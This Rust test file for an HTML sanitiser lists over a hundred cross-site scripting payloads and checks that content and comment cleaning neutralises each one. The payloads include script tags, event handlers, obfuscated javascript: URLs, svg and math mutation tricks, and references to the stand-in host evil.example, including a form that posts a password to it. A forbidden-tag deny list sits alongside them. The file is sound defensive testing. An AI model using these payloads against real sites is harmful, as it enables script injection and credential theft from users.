use super::*;
use crate::render::markdown;
use crate::render::tokens::{Token, Tokens};

/// Attacks, each of which must leave nothing behind that runs, loads or submits.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='javascript:alert(1)'>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=mailto:x@example.com>",
    "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
    "<img srcset=\"//evil.example/a.png 1x\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><b title=\"</desc></svg><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi><noscript><style><!--</style></noscript><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><a title=\"</iframe><img src onerror=alert(1)>\">x",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=//evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x.class></applet>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<p style=\"background:url(javascript:alert(1));position:fixed;inset:0\">x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=//evil.example><input name=password type=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=javascript:alert(1)>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)></video>",
    "<audio src=data:audio/x,x autoplay onloadstart=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"\u{a0}javascript:alert(1)\">x</a>",
    "<a href=\"&nbsp;javascript:alert(1)\">x</a>",
    "<a href=\"\u{200b}javascript:alert(1)\">x</a>",
    "<a href=\"\u{feff}javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=blob:https://example.com/x>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"/\t/evil.example\">x</a>",
    "<a href=# ping=//evil.example target=_blank>x</a>",
    "<a href=\"x\" onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<area href=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=//evil.example>x</q>",
    "<div id=main class=x>x</div>",
    "<p id=respond>x</p><a name=comments></a>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<b \u{0}onclick=alert(1)>x</b>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=//evil.example></portal>",
    "<ul><li><p></ul><script>alert(1)</script>",
    "</div></main></body><script>alert(1)</script>",
];

const FORBIDDEN_TAGS: &[&str] = &[
    "applet",
    "area",
    "base",
    "body",
    "button",
    "canvas",
    "dialog",
    "embed",
    "form",
    "frame",
    "frameset",
    "iframe",
    "image",
    "isindex",
    "keygen",
    "link",
    "marquee",
    "math",
    "meta",
    "noembed",
    "noscript",
    "object",
    "option",
    "plaintext",
    "portal",
    "script",
    "select",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "xmp",
];

const URL_ATTRIBUTES: &[&str] = &["cite", "href", "poster", "src"];

/// Decodes what the serialiser escapes in attributes.
fn decode(value: &str) -> String {
    value
        .replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

fn is_harmless_url(url: &str) -> bool {
    let squeezed: String =
        decode(url).chars().filter(|char| !char.is_whitespace() && !char.is_control()).collect();
    let squeezed = squeezed.trim_start_matches(['\u{200b}', '\u{feff}']).to_lowercase();
    if squeezed.starts_with("//") || squeezed.contains('\\') {
        return false;
    }
    let first = squeezed.split(['/', '?', '#']).next().unwrap_or_default();
    match first.split_once(':') {
        Some((scheme, _)) => ["http", "https", "mailto", "tel"].contains(&scheme),
        None => true,
    }
}

fn assert_harmless(safe: &SafeHtml, attack: &str) {
    let html = safe.as_str();
    for token in Tokens::new(html) {
        let (Token::Start(tag) | Token::End(tag)) = token else { continue };
        assert!(!FORBIDDEN_TAGS.contains(&tag.name), "<{}> of {attack:?}: {html}", tag.name);
        for (name, value) in tag.attributes() {
            let forbidden = name.starts_with("on")
                || [
                    "style",
                    "srcdoc",
                    "action",
                    "formaction",
                    "target",
                    "ping",
                    "autofocus",
                    "background",
                    "data",
                ]
                .contains(&name);
            assert!(!forbidden, "{name} of {attack:?}: {html}");
            assert!(
                !URL_ATTRIBUTES.contains(&name) || is_harmless_url(value),
                "{value} of {attack:?}: {html}"
            );
            assert!(
                !matches!(name, "id" | "name") || !RESERVED_IDS.contains(&value),
                "{value} of {attack:?}: {html}"
            );
        }
    }
}

#[test]
fn disarms_every_attack() {
    assert!(ATTACKS.len() >= 100, "{}", ATTACKS.len());
    for attack in ATTACKS {
        let safe = content(attack).expect("shallow");
        assert_harmless(&safe, attack);
        let twice = content(safe.as_str()).expect("shallow");
        assert_eq!(twice, safe, "cleaning changed what was clean: {attack:?}");
        assert_harmless(&comment(attack).expect("shallow"), attack);
        let safe = content(&markdown::to_html(attack)).expect("shallow");
        assert_harmless(&safe, attack);
        let safe = comment(&markdown::comment_to_html(attack)).expect("shallow");
        assert_harmless(&safe, attack);
    }
}

#[test]
fn disarms_attacks_inside_other_markup() {
    for (before, after) in [
        ("<p>", "</p>"),
        ("<table><tr><td>", "</table>"),
        ("<ul><li>", "</ul>"),
        ("<svg><desc>", ""),
        ("<pre><code>", ""),
    ] {
        for attack in ATTACKS {
            let html = format!("{before}{attack}{after}");
            let safe = content(&html).expect("shallow");
            assert_harmless(&safe, &html);
        }
    }
}

#[test]
fn disarms_markdown_links() {
    for markdown in [
        "[x](javascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](//evil.example)",
        "[x](\u{a0}javascript:alert(1))",
        "# x {onclick=alert(1) #main}",
        "```\"><script>alert(1)</script>\nx\n```",
        "[^\"><script>]\n\n[^\"><script>]: x",
        "![\" onerror=\"alert(1)](x.png \"\\\" onerror=\\\"x\")",
    ] {
        assert_harmless(&content(&markdown::to_html(markdown)).expect("shallow"), markdown);
        assert_harmless(&comment(&markdown::comment_to_html(markdown)).expect("shallow"), markdown);
    }
}

#[test]
fn keeps_what_authors_and_plugins_make() {
    for html in [
        "<h2 id=\"x\" class=\"a b\">x</h2>",
        "<p class=\"reading-time\" lang=\"de\" dir=\"ltr\" title=\"t\">3 min</p>",
        "<figure><img src=\"/media/x.png\" alt=\"x\" width=\"10\" height=\"20\" loading=\"lazy\"><figcaption>c</figcaption></figure>",
        "<picture><source srcset=\"/a.webp 1x, /b.webp 2x\" type=\"image/webp\"><img src=\"a.png\" alt=\"\"></picture>",
        "<video controls=\"\" src=\"https://example.com/x.mp4\" poster=\"/p.png\"><track kind=\"captions\" src=\"/c.vtt\"></video>",
        "<details open=\"\"><summary>s</summary>x</details>",
        "<table><caption>c</caption><thead><tr><th scope=\"col\" align=\"right\">h</th></tr></thead><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>",
        "<div class=\"table-scroll\" tabindex=\"0\" role=\"group\" aria-label=\"Table\">x</div>",
        "<a href=\"mailto:a@example.com\">m</a> <a href=\"tel:+123\">t</a> <a href=\"#x\">f</a> <a href=\"?q=1&amp;r=2\">q</a>",
        "<a href=\"https://social.example/@me\" rel=\"me\">me</a> <a href=\"../x/\">r</a>",
        "<ol start=\"3\" reversed=\"\"><li value=\"4\">x</li></ol>",
        "<dl><dt>t</dt><dd>d</dd></dl><p><kbd>k</kbd><mark>m</mark><abbr title=\"a\">b</abbr><sup>1</sup><sub>2</sub></p>",
        "<input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"Done\">",
        "<ruby>漢<rt>kan</rt></ruby> <time datetime=\"2026-11-20\">today</time>",
        "<section aria-labelledby=\"x\"><hr><blockquote cite=\"https://example.com/\">q</blockquote></section>",
    ] {
        assert_eq!(content(html).expect("shallow").as_str(), html);
    }
}

#[test]
fn takes_out_the_rest() {
    for (html, clean) in [
        ("<iframe src=x>inside</iframe>after", "after"),
        ("<svg><text>inside</text></svg>after", "after"),
        ("<form action=x>text</form>", "text"),
        ("<p style=color:red tabindex=1 role=button id=main>x</p>", "<p>x</p>"),
        ("<input type=password value=x>", "<input type=\"checkbox\" disabled=\"\">"),
        ("<a href=x target=_blank>x</a>", "<a href=\"x\">x</a>"),
        ("<img src=x width=1e9 alt=y>", "<img src=\"x\" alt=\"y\">"),
        ("<!-- c -->x", "x"),
        ("<p>open", "<p>open</p>"),
    ] {
        assert_eq!(content(html).expect("shallow").as_str(), clean);
    }
}

#[test]
fn gives_comments_less() {
    for (html, clean) in [
        (
            "<p class=x id=y>a <a href=https://example.com rel=me title=t>l</a></p>",
            "<p>a <a href=\"https://example.com\" rel=\"nofollow ugc noopener\">l</a></p>",
        ),
        ("<h1>x</h1><img src=x alt=y><table><tr><td>z</table>", "xz"),
        ("<a href=tel:1>x</a>", "<a rel=\"nofollow ugc noopener\">x</a>"),
        (
            "<blockquote><p>q</p></blockquote><pre><code class=language-x>c</code></pre>",
            "<blockquote><p>q</p></blockquote><pre><code>c</code></pre>",
        ),
    ] {
        assert_eq!(comment(html).expect("shallow").as_str(), clean);
    }
}

#[test]
fn refuses_absurd_depth_in_linear_time() {
    for html in [
        "<div>".repeat(100_000),
        "<ul><li>".repeat(7_750),
        "<b>".repeat(50_000),
        "<blockquote>".repeat(2_000),
    ] {
        assert!(content(&html).is_err());
        assert!(comment(&html).is_err());
    }
    let siblings = "<li>x".repeat(5_000);
    assert_eq!(
        content(&format!("<ul>{siblings}</ul>")).expect("shallow").as_str().matches("</li>").count(),
        5_000
    );
}

#[test]
fn shows_refused_text_verbatim() {
    assert_eq!(escaped("\n<b>&").as_str(), "<pre>\n\n&lt;b&gt;&amp;</pre>\n");
    assert_eq!(serde_json::to_string(&escaped("x")).expect("json"), "\"<pre>\\nx</pre>\\n\"");
}
